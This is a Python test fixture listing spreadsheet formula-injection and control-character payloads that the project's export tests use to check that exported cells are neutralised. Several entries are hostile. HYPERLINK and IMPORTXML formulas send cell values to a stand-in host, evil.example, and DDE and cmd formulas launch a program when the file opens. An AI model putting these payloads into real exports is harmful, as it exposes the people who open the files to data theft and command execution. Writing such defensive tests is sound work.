"""Hostile and careless text for exported cells: formulas (CSV or XLSX injection), controls.

Each entry would, unguarded, either run as a formula when a coordinator opens the file, or make
the XLSX writer fail (openpyxl refuses C0 control characters). Shared by the export tests.
"""

from __future__ import annotations

FORMULAS: tuple[str, ...] = (
    '=HYPERLINK("http://evil.example/?x="&B2,"Click")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
    "-2",
    "+84 912 345 678",
    "@",
    "=",
    "\t=1+1",
    "\r=1+1",
    '"=1+1"',  # quoted: harmless, stays as typed
)
CONTROLS: tuple[str, ...] = (
    "Nguyễn\u0001Văn An",
    "Xóm\u00022",
    "a\u000bb\u000cc",
    "Thôn\u001fĐông",
    "\u0007=1+1",  # a control character hiding a formula
)
PAYLOADS = FORMULAS + CONTROLS
